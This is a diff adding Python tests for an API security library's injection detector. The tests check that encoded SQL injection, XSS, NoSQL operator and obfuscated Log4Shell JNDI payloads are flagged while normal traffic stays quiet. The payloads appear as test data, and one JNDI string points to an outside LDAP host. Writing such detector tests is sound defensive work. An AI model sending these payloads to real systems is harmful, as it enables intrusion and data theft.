@@ -1,0 +1,141 @@
+from __future__ import annotations
+
+import orjson
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from apishield.checks.injection import check_injection
+from apishield.checks.registry import CheckContext, EndpointFacts, ParamRule
+from apishield.exchange import Exchange, Severity
+from apishield.testing import make_exchange
+
+
+class _Facts:
+    def __init__(self, params: dict[tuple[str, str], ParamRule]) -> None:
+        self.found = EndpointFacts(params=params)
+
+    def facts(self, exchange: Exchange) -> EndpointFacts | None:
+        return self.found
+
+
+def _rules(exchange: Exchange, context: CheckContext | None = None) -> set[str]:
+    return {f.rule_id for f in check_injection(exchange, context or CheckContext())}
+
+
+def _classes(exchange: Exchange, context: CheckContext | None = None) -> set[str]:
+    found = check_injection(exchange, context or CheckContext())
+    return {f.evidence["class"] for f in found if "class" in f.evidence}
+
+
+def test_encoded_sql_injection_in_a_query_value_is_found() -> None:
+    exchange = make_exchange(query="id=7%2527%2520OR%2520%25271%2527%253D%25271")
+    assert "sqli" in _classes(exchange)
+
+
+def test_a_json_leaf_is_judged_on_its_own() -> None:
+    body = orjson.dumps({"profile": {"bio": "<img src=x onerror=alert(document.domain)>"}})
+    exchange = make_exchange(method="POST", body=body, headers={"content-type": "application/json"})
+    found = check_injection(exchange, CheckContext())
+    xss = [f for f in found if f.evidence.get("class") == "xss"]
+    assert xss and xss[0].evidence["location"] == "body" and xss[0].evidence["name"] == "bio"
+    assert xss[0].severity >= Severity.MEDIUM
+
+
+def test_jndi_in_a_custom_header() -> None:
+    exchange = make_exchange(headers={"x-api-version": "${${lower:j}ndi:ldap://198.51.100.1/a}"})
+    assert "log4shell" in _classes(exchange)
+
+
+def test_ordinary_api_traffic_is_quiet() -> None:
+    exchange = make_exchange(
+        path="/v2/customers/40213377/orders",
+        query="status=shipped&from=2024-01-01&sort=-created_at&q=O%27Brien+%26+Sons",
+        headers={"user-agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)"},
+    )
+    assert _rules(exchange) == set()
+
+
+def test_a_conforming_typed_value_is_not_scanned() -> None:
+    """`1e3` style and dash-prefixed values pass their type; an attack in them does not."""
+    facts = _Facts({("query", "order"): ParamRule("enum", frozenset({"desc--", "asc"}))})
+    context = CheckContext(facts=facts)
+    assert _rules(make_exchange(query="order=desc--"), context) == set()
+    mismatch = check_injection(make_exchange(query="order=asc%27+or+1%3D1--"), context)
+    rules = {f.rule_id for f in mismatch}
+    assert "schema.type_mismatch" in rules
+    assert any(r.startswith("inj.sqli") for r in rules)
+
+
+def test_a_path_of_valid_typed_parameters_is_not_scanned() -> None:
+    facts = _Facts({("path", "id"): ParamRule("integer")})
+    exchange = make_exchange(path="/select/union/40213377")
+    exchange.route = "/select/union/{id}"
+    exchange.path_params = {"id": "40213377"}
+    assert _rules(exchange, CheckContext(facts=facts)) == set()
+    bad = make_exchange(path="/select/union/1%20union%20select%20password%20from%20users")
+    bad.route = "/select/union/{id}"
+    bad.path_params = {"id": "1%20union%20select%20password%20from%20users"}
+    rules = _rules(bad, CheckContext(facts=facts))
+    assert "schema.type_mismatch" in rules and any(r.startswith("inj.sqli") for r in rules)
+
+
+def test_documented_odd_names_are_not_judged_as_keys() -> None:
+    facts = _Facts({("query", "StartTime<"): ParamRule("date")})
+    exchange = make_exchange(query="StartTime%3C=2024-01-01")
+    assert _rules(exchange, CheckContext(facts=facts)) == set()
+
+
+def test_nosql_operator_in_a_parameter_name() -> None:
+    exchange = make_exchange(query="username=admin&password[$ne]=x")
+    assert "nosqli" in _classes(exchange)
+
+
+def test_evidence_is_short_and_masks_numbers() -> None:
+    payload = "' union select card from cards where owner=4915112345678 -- " + "x" * 500
+    exchange = make_exchange(
+        method="POST",
+        body=orjson.dumps({"q": payload}),
+        headers={"content-type": "application/json"},
+    )
+    found = [f for f in check_injection(exchange, CheckContext()) if "sample" in f.evidence]
+    assert found
+    sample = found[0].evidence["sample"]
+    assert len(sample) <= 80 and "4915112345678" not in sample
+
+
+def test_oversized_and_deep_bodies_are_reported() -> None:
+    big = make_exchange(method="POST", body=b"a" * 2000, headers={"content-type": "text/plain"})
+    assert "req.body.capped" in _rules(big, CheckContext(max_body_bytes=1000))
+    deep = make_exchange(
+        method="POST", body=b"[" * 100 + b"]" * 100, headers={"content-type": "application/json"}
+    )
+    assert "req.body.deep" in _rules(deep)
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    path=st.text(max_size=200),
+    query=st.text(max_size=300),
+    body=st.binary(max_size=2000),
+    header=st.text(max_size=200),
+)
+def test_never_raises_on_hostile_input(path: str, query: str, body: bytes, header: str) -> None:
+    for kind in ("application/json", "application/x-www-form-urlencoded", "text/xml"):
+        exchange = make_exchange(
+            method="POST",
+            path=path,
+            query=query,
+            body=body,
+            headers={"content-type": kind, "x-custom": header, "cookie": header},
+        )
+        check_injection(exchange, CheckContext())
+
+
+def test_form_body_values_are_decoded_before_validation() -> None:
+    facts = _Facts({("body", "SendAt"): ParamRule("date-time")})
+    exchange = make_exchange(
+        method="POST",
+        body=b"SendAt=2024-03-15T10%3A22%3A05Z",
+        headers={"content-type": "application/x-www-form-urlencoded"},
+    )
+    assert _rules(exchange, CheckContext(facts=facts)) == set()
